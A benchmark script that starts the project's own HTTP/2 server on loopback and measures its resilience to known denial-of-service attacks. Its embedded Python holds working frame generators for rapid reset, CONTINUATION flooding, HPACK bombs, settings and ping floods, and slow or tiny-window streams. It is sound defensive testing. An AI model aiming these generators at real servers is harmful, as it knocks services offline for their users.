#!/usr/bin/env bash
# What attacks on HTTP/2 cost: four connections at a time send what each line names, over and over, a new one whenever the
# server ends one; an ordinary client asks ten times a second meanwhile. Shown: connections ended and frames that each could
# send (mean), the server's processor time of a second, and how long the ordinary client waited. The server is on processor
# 0, the others on 1; without TLS, so that nothing but HTTP/2 is measured. Loopback only; about a minute.
#   server/bench/attacks.sh        SECONDS_EACH=; ATTACKS="rapid-reset ..." chooses; JAVA=, JAR= for ours
set -euo pipefail
cd "$(dirname "$0")/../.."
each=${SECONDS_EACH:-4} jar=${JAR:-server/target/multihome.jar} java=${JAVA:-java}
[[ -f $jar ]] || { echo "$jar is missing: mvn -q -DskipTests package" >&2; exit 1; }
for program in curl python3 taskset; do
  command -v $program >/dev/null || { echo "$program is missing: apt-get install curl python3 util-linux" >&2; exit 1; }
done
scratch=$(mktemp -d) pid=
finish() {
  [[ -z $pid ]] || { kill "$pid" 2>/dev/null && wait "$pid" 2>/dev/null || true; }
  rm -rf "$scratch"
}
trap finish EXIT
mkdir -p "$scratch/sites/bench" "$scratch/conf"
head -c 1024 < <(base64 -w 80 /dev/urandom) >"$scratch/sites/bench/index.html"
head -c 1048576 /dev/urandom >"$scratch/sites/bench/1m"
cat >"$scratch/conf/multihome.conf" <<END
interface = lo, sites-folder = ../sites, state-folder = ../var, io-threads = 1, logs { access = off }
listen { http = 18445, https = off, h2c = on }, admin { port = 18446 }
sites.bench { address = 127.168.57.5 }
END
taskset -c 0 "$java" -jar "$jar" serve -c "$scratch/conf/multihome.conf" >"$scratch/log" 2>&1 &
pid=$!
for _ in $(seq 200); do curl -so /dev/null http://127.168.57.5:18445/ && break; sleep 0.1; done
taskset -c 1 python3 - "$pid" "$each" "${ATTACKS:-}" <<'END'
import os, socket, struct, subprocess, sys, threading, time

PID, EACH, CHOSEN = int(sys.argv[1]), float(sys.argv[2]), sys.argv[3].split()
AT = ("127.168.57.5", 18445)
GET = b"\x82\x84\x86\x01\x01a"
BIG = b"\x82\x04\x03/1m\x86\x01\x01a"
POST = b"\x83\x84\x86\x01\x01a"

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload) << 8 | kind) + struct.pack(">BI", flags, stream) + payload

def number(value):
    return struct.pack(">I", value)

BOMB = b"\x40\x01a\x7f\x81\x1f" + b"b" * 4126  # one octet then stands for as many
ATTACKS = {  # name: the preface's settings, and what is sent i-th
    "rapid-reset": (b"", lambda i: frame(1, 5, 2 * i + 1, GET) + frame(3, 0, 2 * i + 1, number(8))),
    "made-you-reset": (b"", lambda i: frame(1, 5, 2 * i + 1, GET) + frame(8, 0, 2 * i + 1, number(0))),
    "continuation": (b"", lambda i: frame(1, 1, 1, GET) if i == 0 else frame(9, 0, 1)),
    "settings": (b"", lambda i: frame(4, 0, 0)),
    "ping": (b"", lambda i: frame(6, 0, 0, b"12345678")),
    "priority": (b"", lambda i: frame(2, 0, 1, b"\0\0\0\0\x10")),
    "empty-data": (b"", lambda i: frame(1, 4, 1, POST) if i == 0 else frame(0, 0, 1)),
    "hpack-bomb": (b"", lambda i: frame(1, 5, 2 * i + 1, GET + b"\x40\x01a\x7f\xe1\x1e" + b"b" * 4000 if i == 0 else GET + b"\xbe" * 16000)),
    "tiny-window": (struct.pack(">HI", 4, 1), lambda i: frame(1, 5, 2 * i + 1, BIG) if i < 100 else frame(8, 0, 2 * (i % 100) + 1, number(1))),
    "slow-streams": (b"", lambda i: frame(1, 4, 2 * i + 1, POST) if i < 100 else None),
    "nothing": (b"", None),
}

def ticks():
    with open(f"/proc/{PID}/stat") as stat:
        fields = stat.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

def attack(settings, what, until, tally):
    while time.time() < until:
        sent = 0
        with socket.create_connection(AT) as s:
            s.settimeout(0.5)
            try:
                s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, settings))
                while time.time() < until:
                    octets = what(sent)
                    if octets is None:
                        time.sleep(0.05)
                        continue
                    s.sendall(octets)
                    sent += 1
                    if sent % 50 == 0:
                        s.setblocking(False)
                        try:
                            while s.recv(65536):
                                pass
                            raise ConnectionResetError
                        except BlockingIOError:
                            pass
                        s.settimeout(0.5)
                tally["unended"] += 1
            except socket.timeout:
                tally["stuck"] += 1
            except OSError:
                tally["ended"] += 1
        tally["sent"] += sent

print(f"{'attack':15} {'ended':>7} {'frames each':>12} {'CPU of 1 s':>11} {'ordinary: median ms':>20} {'most':>7} {'failed':>7}")
for name, (settings, what) in ATTACKS.items():
    if CHOSEN and name not in CHOSEN:
        continue
    tally = {"ended": 0, "unended": 0, "stuck": 0, "sent": 0}
    until = time.time() + EACH
    threads = [threading.Thread(target=attack, args=(settings, what, until, tally)) for _ in range(4 if what else 0)]
    before, began = ticks(), time.time()
    for thread in threads:
        thread.start()
    waits, failed = [], 0
    while time.time() < until:
        asked = time.time()
        done = subprocess.run(["curl", "-s", "-m", "5", "--http2-prior-knowledge", "-o", "/dev/null", "-w", "%{http_code} %{time_total}", f"http://{AT[0]}:{AT[1]}/"], capture_output=True, text=True).stdout.split()
        if done and done[0] == "200":
            waits.append(float(done[1]) * 1000)
        else:
            failed += 1
        time.sleep(max(0, 0.1 - (time.time() - asked)))
    for thread in threads:
        thread.join()
    cpu = (ticks() - before) / (time.time() - began)
    connections = tally["ended"] + tally["unended"] + tally["stuck"]
    waits.sort()
    median = waits[len(waits) // 2] if waits else float("nan")
    most = waits[-1] if waits else float("nan")
    print(f"{name:15} {tally['ended']:7} {tally['sent'] / max(1, connections):12.0f} {cpu:11.2f} {median:20.1f} {most:7.1f} {failed:7}", flush=True)
END
